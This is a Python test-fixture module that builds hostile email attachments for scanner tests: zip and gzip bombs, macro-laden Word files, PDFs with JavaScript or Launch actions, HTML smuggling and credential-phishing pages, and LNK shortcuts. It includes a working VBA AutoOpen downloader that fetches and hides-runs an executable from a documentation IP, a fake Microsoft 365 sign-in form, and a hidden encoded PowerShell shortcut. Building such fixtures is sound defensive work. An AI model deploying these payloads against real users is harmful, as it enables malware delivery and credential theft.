"""Builders of the hostile and tricky files the attachment tests need, made at run time.

No malware, mail corpus or sample collection is downloaded: every file here
is built from its format's specification, small and deterministic, and
harmless (the "payloads" are inert strings).

- archives: :func:`zip_bytes`, :func:`ratio_bomb_zip` (a real 256 MiB
  deflate stream of zeros, assembled from repeated blocks in milliseconds),
  :func:`nested_zip`, :func:`many_members_zip`, :func:`overlapping_zip`
  (the "stacked" bomb: many directory entries sharing one body),
  :func:`flag_encrypted_zip` (the encryption bit set in hand-patched
  headers), :func:`aes_zip` (pyzipper), :func:`seven_zip`, :func:`gzip_bomb`;
- Office: :func:`cfb` writes an OLE2 compound file (mini stream included),
  :func:`vba_project` a ``vbaProject.bin`` with VBA source stored as MS-OVBA
  specifies (literal-only compressed chunks, which any reader must accept),
  :func:`docm` and :func:`macro_doc` wrap it as Word documents;
  :func:`encrypted_docx` is a real password-protected OOXML (msoffcrypto);
- :func:`pdf` with JavaScript, Launch, links, in the clear or hidden in a
  compressed object stream and behind ``#xx`` name escapes;
- :func:`smuggling_page`, :func:`credential_page`: HTML attachments;
- :func:`iso_image`, :func:`lnk`: disk image and shortcut headers;
  :func:`iso_with` a real ISO 9660 image holding files (pycdlib), with
  Joliet or Rock Ridge names;
- :func:`qr_png`: a QR code image (segno);
- :func:`mail`: a MIME message with attachments, as bytes.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from email.message import EmailMessage

# -- mail --------------------------------------------------------------------


def mail(attachments: list[tuple[str, bytes]] = (), text: str = "Please find the document attached.\n",
         html: str | None = None, subject: str = "Documents", inline_images: list[bytes] = ()) -> bytes:
    """A message with ``attachments`` as (filename, bytes), base64 application/octet-stream."""
    message = EmailMessage()
    message["From"] = "Sender <sender@example.net>"
    message["To"] = "alice@example.com"
    message["Subject"] = subject
    message["Message-ID"] = "<files-test@example.net>"
    message.set_content(text)
    if html is not None:
        message.add_alternative(html, subtype="html")
    for image in inline_images:
        message.add_attachment(image, maintype="image", subtype="png", disposition="inline")
    for filename, payload in attachments:
        message.add_attachment(payload, maintype="application", subtype="octet-stream", filename=filename)
    return message.as_bytes()


# -- ZIP ---------------------------------------------------------------------


def zip_bytes(members: list[tuple[str, bytes]] | dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    items = members.items() if isinstance(members, dict) else members
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in items:
            archive.writestr(name, data)
    return buffer.getvalue()


def zeros_deflate(megabytes: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``megabytes`` MiB of zeros and its CRC-32, built in milliseconds.

    After a full flush the compressor's output for another MiB of zeros is
    the same every time, so one block repeated stands for all the others.
    """
    chunk = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    final = compressor.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    return first + repeated * (megabytes - 1) + final, crc


def _local_header(name: bytes, method: int, crc: int, csize: int, usize: int, flags: int = 0) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21, crc, csize, usize, len(name), 0) + name


def _central_header(name: bytes, method: int, crc: int, csize: int, usize: int, offset: int, flags: int = 0) -> bytes:
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, 0, 0x21, crc, csize, usize,
                       len(name), 0, 0, 0, 0, 0, offset) + name


def _end_record(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, offset, 0)


def ratio_bomb_zip(megabytes: int = 256, name: str = "report.txt") -> bytes:
    """One member declaring ``megabytes`` MiB of zeros in a few hundred KiB (ratio about 1000:1)."""
    body, crc = zeros_deflate(megabytes)
    usize = megabytes << 20
    header = _local_header(name.encode(), 8, crc, len(body), usize)
    central = _central_header(name.encode(), 8, crc, len(body), usize, 0)
    return header + body + central + _end_record(1, len(central), len(header) + len(body))


def lying_zip(megabytes: int = 64, declared: int = 1000) -> bytes:
    """A member whose headers declare ``declared`` bytes but whose body inflates to ``megabytes`` MiB."""
    body, crc = zeros_deflate(megabytes)
    header = _local_header(b"small.txt", 8, crc, len(body), declared)
    central = _central_header(b"small.txt", 8, crc, len(body), declared, 0)
    return header + body + central + _end_record(1, len(central), len(header) + len(body))


def overlapping_zip(count: int = 50, megabytes: int = 1) -> bytes:
    """``count`` directory entries that all point at one compressed body (Fifield's stacked bomb)."""
    body, crc = zeros_deflate(megabytes)
    usize = megabytes << 20
    header = _local_header(b"a.txt", 8, crc, len(body), usize)
    central = b"".join(_central_header(f"file{i}.txt".encode(), 8, crc, len(body), usize, 0) for i in range(count))
    return header + body + central + _end_record(count, len(central), len(header) + len(body))


def nested_zip(depth: int, inner: bytes = b"the innermost file\n", name: str = "inner.txt") -> bytes:
    """``depth`` ZIPs, each holding the next; the innermost holds ``inner`` as ``name``."""
    data = zip_bytes({name: inner})
    for level in range(depth - 1, 0, -1):
        data = zip_bytes({f"level{level}.zip": data})
    return data


def many_members_zip(count: int) -> bytes:
    """``count`` empty members, stored."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for index in range(count):
            archive.writestr(f"f{index}.txt", b"")
    return buffer.getvalue()


def flag_encrypted_zip(members: dict[str, bytes]) -> bytes:
    """A stored ZIP whose members carry the "encrypted" bit (traditional PKWARE), patched in by hand."""
    data = bytearray(zip_bytes(members, zipfile.ZIP_STORED))
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            flags = struct.unpack_from("<H", data, start + flag_offset)[0]
            struct.pack_into("<H", data, start + flag_offset, flags | 0x1)
            start += 4
    return bytes(data)


def aes_zip(members: dict[str, bytes], password: bytes = b"infected") -> bytes:
    """A WinZip AES-encrypted ZIP, as attackers send with the password in the body."""
    import pyzipper

    buffer = io.BytesIO()
    with pyzipper.AESZipFile(buffer, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(password)
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def seven_zip(members: dict[str, bytes], password: str | None = None, header_encryption: bool = False,
              deflate: bool = False) -> bytes:
    """A 7z archive (LZMA2, or deflate, much faster to build for large test content)."""
    import py7zr

    buffer = io.BytesIO()
    filters = [{"id": py7zr.FILTER_DEFLATE}] if deflate else None
    with py7zr.SevenZipFile(buffer, "w", password=password, header_encryption=header_encryption,
                            filters=filters) as archive:
        for name, data in members.items():
            archive.writestr(data, name)
    return buffer.getvalue()


def gzip_bomb(megabytes: int = 256) -> bytes:
    body, crc = zeros_deflate(megabytes)
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + body + struct.pack("<II", crc, (megabytes << 20) & 0xFFFFFFFF)


# -- OLE2 compound files and VBA -------------------------------------------------

_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(streams: dict[str, bytes]) -> bytes:
    """An OLE2 compound file (version 3, 512-byte sectors) holding ``streams`` ("Storage/Name" paths).

    Storages are implied by the paths. Streams under 4096 bytes live in the
    mini stream, as the format requires; siblings are chained in the order
    the format sorts them (length, then upper-case name).
    """
    # Directory: entry 0 is the root; storages and streams follow.
    entries = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index: dict[str, int] = {"": 0}
    for path, data in streams.items():
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            key = "/".join(parts[:depth])
            if key not in index:
                is_stream = depth == len(parts)
                entries.append({"name": parts[depth - 1], "type": 2 if is_stream else 1, "children": [],
                                "data": data if is_stream else b""})
                index[key] = len(entries) - 1
                entries[index["/".join(parts[:depth - 1])]]["children"].append(index[key])
    mini, minifat, big = bytearray(), [], []
    for entry in entries:
        entry["start"], entry["size"] = _END, len(entry["data"])
        if entry["type"] != 2:
            continue
        if entry["size"] < 4096:
            entry["start"] = len(mini) // 64 if entry["size"] else _END
            count = (entry["size"] + 63) // 64
            minifat += [len(minifat) + i + 1 for i in range(count - 1)] + ([_END] if count else [])
            mini += entry["data"] + bytes(count * 64 - entry["size"])
        else:
            big.append(entry)
    dir_bytes_count = (len(entries) + 3) // 4
    minifat_sectors = (len(minifat) * 4 + 511) // 512
    mini_sectors = (len(mini) + 511) // 512
    big_sectors = sum((e["size"] + 511) // 512 for e in big)
    others = dir_bytes_count + minifat_sectors + mini_sectors + big_sectors
    fat_sectors = 1
    while fat_sectors * 128 < fat_sectors + others:
        fat_sectors += 1
    fat: list[int] = [_FATSECT] * fat_sectors

    def chain(count: int) -> int:
        if not count:
            return _END
        start = len(fat)
        fat.extend(start + i + 1 for i in range(count - 1))
        fat.append(_END)
        return start

    dir_start = chain(dir_bytes_count)
    minifat_start = chain(minifat_sectors)
    mini_start = chain(mini_sectors)
    for entry in big:
        entry["start"] = chain((entry["size"] + 511) // 512)
    entries[0]["start"], entries[0]["size"] = (mini_start, len(mini)) if mini else (_END, 0)
    fat += [_FREE] * (fat_sectors * 128 - len(fat))

    def sort_key(i: int) -> tuple[int, str]:
        return len(entries[i]["name"]), entries[i]["name"].upper()

    for entry in entries:
        entry["left"] = entry["right"] = entry["child"] = _NOSTREAM
    for entry in entries:
        children = sorted(entry["children"], key=sort_key)
        if children:
            entry["child"] = children[0]
            for a, b in zip(children, children[1:]):
                entries[a]["right"] = b
    directory = bytearray()
    for entry in entries:
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        directory += name.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sIQQIQ", len(name), entry["type"], 1, entry["left"], entry["right"], entry["child"],
            bytes(16), 0, 0, 0, entry["start"], entry["size"])
    while len(directory) % 512:
        directory += bytes(64) + struct.pack("<HBBIII16sIQQIQ", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM,
                                             bytes(16), 0, 0, 0, 0, 0)
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", bytes(16), 0x3E, 3, 0xFFFE,
                         9, 6, bytes(6), 0, fat_sectors, dir_start, 0, 4096,
                         minifat_start if minifat_sectors else _END, minifat_sectors, _END, 0)
    header += struct.pack("<109I", *(list(range(fat_sectors)) + [_FREE] * (109 - fat_sectors)))
    body = struct.pack(f"<{len(fat)}I", *fat) + bytes(directory)
    body += struct.pack(f"<{len(minifat)}I", *minifat).ljust(minifat_sectors * 512, b"\xff")
    body += bytes(mini).ljust(mini_sectors * 512, b"\0")
    for entry in big:
        body += entry["data"].ljust((entry["size"] + 511) // 512 * 512, b"\0")
    return header + body


def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA 2.4.1 compressed container: raw chunks for full 4 KiB blocks, literal tokens for the last."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 4096):
        block = data[start:start + 4096]
        if len(block) > 3640:
            block = block.ljust(4096, b" ")
        if len(block) == 4096:
            out += struct.pack("<H", 0x3FFF) + block
            continue
        tokens = b"".join(b"\x00" + block[i:i + 8] for i in range(0, len(block), 8))
        out += struct.pack("<H", (len(tokens) + 2 - 3) | 0xB000) + tokens
    return bytes(out)


def _record(record_id: int, data: bytes) -> bytes:
    return struct.pack("<HI", record_id, len(data)) + data


def vba_project(modules: dict[str, str], root: str = "") -> dict[str, bytes]:
    """The streams of a VBA project (``PROJECT``, ``VBA/dir``, ``VBA/_VBA_PROJECT``, one per module)."""
    dir_stream = (
        _record(0x0001, struct.pack("<I", 1)) + _record(0x0002, struct.pack("<I", 0x409))
        + _record(0x0014, struct.pack("<I", 0x409)) + _record(0x0003, struct.pack("<H", 1252))
        + _record(0x0004, b"VBAProject") + _record(0x0005, b"") + struct.pack("<HI", 0x0040, 0)
        + _record(0x0006, b"") + struct.pack("<HI", 0x003D, 0) + _record(0x0007, struct.pack("<I", 0))
        + _record(0x0008, struct.pack("<I", 0)) + struct.pack("<HIIH", 0x0009, 4, 1, 0)
        + _record(0x000C, b"") + struct.pack("<HI", 0x003C, 0)
        + struct.pack("<HIH", 0x000F, 2, len(modules)) + struct.pack("<HIH", 0x0013, 2, 0xFFFF)
    )
    project = ['ID="{00000000-0000-0000-0000-000000000000}"']
    streams: dict[str, bytes] = {}
    for name, source in modules.items():
        encoded, wide = name.encode("latin-1"), name.encode("utf-16-le")
        dir_stream += (
            _record(0x0019, encoded) + _record(0x0047, wide) + _record(0x001A, encoded)
            + struct.pack("<HI", 0x0032, len(wide)) + wide + _record(0x001C, b"") + struct.pack("<HI", 0x0048, 0)
            + _record(0x0031, struct.pack("<I", 0)) + _record(0x001E, struct.pack("<I", 0))
            + _record(0x002C, struct.pack("<H", 0xFFFF)) + struct.pack("<HI", 0x0021, 0) + struct.pack("<HI", 0x002B, 0)
        )
        project.append(f"Module={name}")
        streams[f"{root}VBA/{name}"] = ovba_compress(source.replace("\n", "\r\n").encode("cp1252"))
    dir_stream += struct.pack("<HI", 0x0010, 0)
    project += ['Name="VBAProject"', 'HelpContextID="0"', "", "[Host Extender Info]",
                "&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000", ""]
    streams[f"{root}PROJECT"] = "\r\n".join(project).encode("latin-1")
    streams[f"{root}VBA/dir"] = ovba_compress(dir_stream)
    streams[f"{root}VBA/_VBA_PROJECT"] = b"\xcc\x61\xff\xff\x00\x00\x00"
    return streams


AUTOEXEC_DOWNLOADER = '''Attribute VB_Name = "NewMacros"
Sub AutoOpen()
    Dim http As Object, path As String
    Set http = CreateObject("MSXML2.XMLHTTP")
    http.Open "GET", "http://198.51.100.7/update.bin", False
    http.Send
    path = Environ("TEMP") & "\\update.exe"
    Set stream = CreateObject("ADODB.Stream")
    stream.Open
    stream.Type = 1
    stream.Write http.responseBody
    stream.SaveToFile path, 2
    Shell path, vbHide
End Sub
'''

HARMLESS_MACRO = '''Attribute VB_Name = "NewMacros"
Sub FormatTable()
    Selection.Font.Bold = True
    Selection.ParagraphFormat.Alignment = wdAlignParagraphCenter
End Sub
'''


def docm(source: str = AUTOEXEC_DOWNLOADER) -> bytes:
    """A macro-enabled Word document (OOXML) whose vbaProject.bin holds ``source``."""
    vba = cfb(vba_project({"NewMacros": source}))
    return zip_bytes({
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            '<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><w:document '
            'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
            '<w:t>Please enable content to see the invoice.</w:t></w:r></w:p></w:body></w:document>'
        ),
        "word/_rels/document.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
            'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
            '</Relationships>'
        ),
        "word/vbaProject.bin": vba,
    })


def macro_doc(source: str = AUTOEXEC_DOWNLOADER) -> bytes:
    """A Word 97-2003 (OLE2) document with its VBA project under ``Macros/``."""
    streams = {"WordDocument": b"\xec\xa5" + bytes(1022), "1Table": bytes(512)}
    streams.update(vba_project({"NewMacros": source}, root="Macros/"))
    return cfb(streams)


def encrypted_docx(password: str = "1234") -> bytes:
    """A real password-protected Word document: an OOXML package encrypted as Office does (msoffcrypto)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = docm(HARMLESS_MACRO)
    output = io.BytesIO()
    OOXMLFile(io.BytesIO(plain)).encrypt(password, output)
    return output.getvalue()


# -- PDF ---------------------------------------------------------------------


def pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF of ``objects`` (object i+1 is objects[i]) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


_PAGES = [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
          b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]


def pdf_with_javascript(script: bytes = b"app.alert('hello');", hex_names: bool = False) -> bytes:
    """A PDF that runs ``script`` on opening (OpenAction); names hidden as ``/J#61vaScript`` if asked."""
    action = b"<< /Type /Action /S /JavaScript /JS (" + script + b") >>"
    if hex_names:
        action = action.replace(b"/JavaScript", b"/J#61vaScr#69pt").replace(b"/JS", b"/J#53")
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_PAGES, action])


def pdf_with_hidden_javascript(script: bytes = b"app.alert('hello');") -> bytes:
    """The JavaScript action stored inside a FlateDecode object stream, invisible to a plain scan."""
    inner = b"<< /Type /Action /S /JavaScript /JS (" + script + b") >>"
    content = zlib.compress(b"4 0 " + inner)
    objstm = (b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(content)
              + content + b"\nendstream")
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_PAGES, objstm])


def pdf_with_launch(command: bytes = b"cmd.exe", arguments: bytes = b"/c calc") -> bytes:
    action = b"<< /Type /Action /S /Launch /Win << /F (" + command + b") /P (" + arguments + b") >> >>"
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_PAGES, action])


def pdf_with_link(url: bytes) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>"
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (" + url + b") >> >>"
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES[0], page, annotation])


def plain_pdf() -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGES])


def pdf_with_text(lines: list[str]) -> bytes:
    """A one-page PDF whose page content draws ``lines`` (Latin-1) with the Tj operator, compressed."""
    ops = b"".join(b"BT /F1 12 Tf 60 %d Td (%s) Tj ET\n" % (700 - 20 * i, line.encode("latin-1").replace(b"(", b"\\(")
                   .replace(b")", b"\\)")) for i, line in enumerate(lines))
    content = zlib.compress(ops)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream"
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES[0], page, stream])


# -- HTML --------------------------------------------------------------------


def smuggling_page(payload: bytes = b"\x00inert payload standing in for a disk image\x00" * 40,
                   filename: str = "invoice.iso") -> str:
    """An HTML smuggling page: a base64 blob turned into a download in the browser."""
    blob = base64.b64encode(payload).decode()
    return f"""<!DOCTYPE html><html><head><title>Invoice</title></head><body>
<p>Your document is downloading...</p>
<script>
var data = atob("{blob}");
var bytes = new Uint8Array(data.length);
for (var i = 0; i < data.length; i++) {{ bytes[i] = data.charCodeAt(i); }}
var file = new Blob([bytes], {{type: "application/octet-stream"}});
if (window.navigator.msSaveOrOpenBlob) {{ window.navigator.msSaveOrOpenBlob(file, "{filename}"); }}
else {{ var a = document.createElement("a"); a.href = window.URL.createObjectURL(file);
  a.download = "{filename}"; document.body.appendChild(a); a.click(); }}
</script></body></html>"""


def credential_page(action: str = "https://collect.example.org/owa/auth.php", wrapped: bool = False) -> str:
    """A fake sign-in page; with ``wrapped``, its form is only written by script from base64 (the usual disguise)."""
    form = (f'<form method="post" action="{action}"><input type="email" name="login">'
            '<input type="password" name="passwd"><button>Sign in</button></form>')
    if wrapped:
        encoded = base64.b64encode(form.encode()).decode()
        return f'<html><body><h1>Microsoft 365</h1><script>document.write(atob("{encoded}"));</script></body></html>'
    return f"<html><body><h1>Microsoft 365</h1><p>Session expired, sign in again.</p>{form}</body></html>"


# -- disk images and shortcuts -------------------------------------------------


def iso_image(files: int = 1) -> bytes:
    """An ISO 9660 image: 32 KiB system area, a primary volume descriptor and the set terminator."""
    primary = bytearray(2048)
    primary[0:7] = b"\x01CD001\x01"
    primary[40:72] = b"INVOICE".ljust(32)
    terminator = bytearray(2048)
    terminator[0:7] = b"\xffCD001\x01"
    return bytes(32768) + bytes(primary) + bytes(terminator) + bytes(2048 * files)


def iso_with(members: dict[str, bytes], joliet: bool = True, rock_ridge: bool = False, volume: str = "DOCS") -> bytes:
    """An ISO 9660 image holding ``members`` ({"dir/name.ext": content}), as disc-image droppers ship them.

    The primary names are 8.3 placeholders (``F0``, ``D0``), as tools made for
    Windows write them; the real names are in the Joliet tree, in Rock Ridge
    entries, or nowhere when both are off.
    """
    import pycdlib

    iso = pycdlib.PyCdlib()
    options = {"joliet": 3} if joliet else {}
    if rock_ridge:
        options["rock_ridge"] = "1.09"
    iso.new(interchange_level=3, vol_ident=volume, **options)
    directories: dict[str, str] = {"": ""}

    def names(iso_path: str, real: str) -> dict:
        extra = {"joliet_path": "/" + real} if joliet else {}
        if rock_ridge:
            extra["rr_name"] = real.rsplit("/", 1)[-1]
        return {"iso_path": iso_path, **extra}

    for index, (path, data) in enumerate(members.items()):
        parent = ""
        for part in path.split("/")[:-1]:
            real = f"{parent}/{part}".strip("/")
            if real not in directories:
                directories[real] = f"{directories[parent]}/D{len(directories)}"
                iso.add_directory(**names(directories[real], real))
            parent = real
        iso.add_fp(io.BytesIO(data), len(data), **names(f"{directories[parent]}/F{index}.;1", path))
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    return out.getvalue()


def lnk(target: str = r"..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        arguments: str = "-w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA") -> bytes:
    """A Windows shortcut (MS-SHLLINK): header, then a relative path and arguments as Unicode strings."""
    flags = 0x08 | 0x20 | 0x80  # HasRelativePath, HasArguments, IsUnicode
    header = struct.pack("<I16sIIQQQIiIHHII", 0x4C, bytes.fromhex("0114020000000000c000000000000046"),
                         flags, 0x20, 0, 0, 0, 0, 0, 7, 0, 0, 0, 0)

    def string(text: str) -> bytes:
        return struct.pack("<H", len(text)) + text.encode("utf-16-le")

    return header + string(target) + string(arguments)


# -- images ------------------------------------------------------------------


def qr_png(text: str, scale: int = 6, border: int = 4) -> bytes:
    """A PNG image of a QR code for ``text``."""
    import segno

    buffer = io.BytesIO()
    segno.make(text, error="m", micro=False).save(buffer, kind="png", scale=scale, border=border)
    return buffer.getvalue()


def plain_png(width: int = 64, height: int = 64) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


# -- executables -------------------------------------------------------------


def pe_exe() -> bytes:
    """A minimal PE header (DOS stub pointing at "PE\\0\\0" and a COFF header): inert, never run."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 60, 64)
    coff = struct.pack("<4sHHIIIHH", b"PE\x00\x00", 0x14C, 0, 0, 0, 0, 0xE0, 0x0102)
    return bytes(dos) + coff + bytes(256)


def elf_binary() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(57)
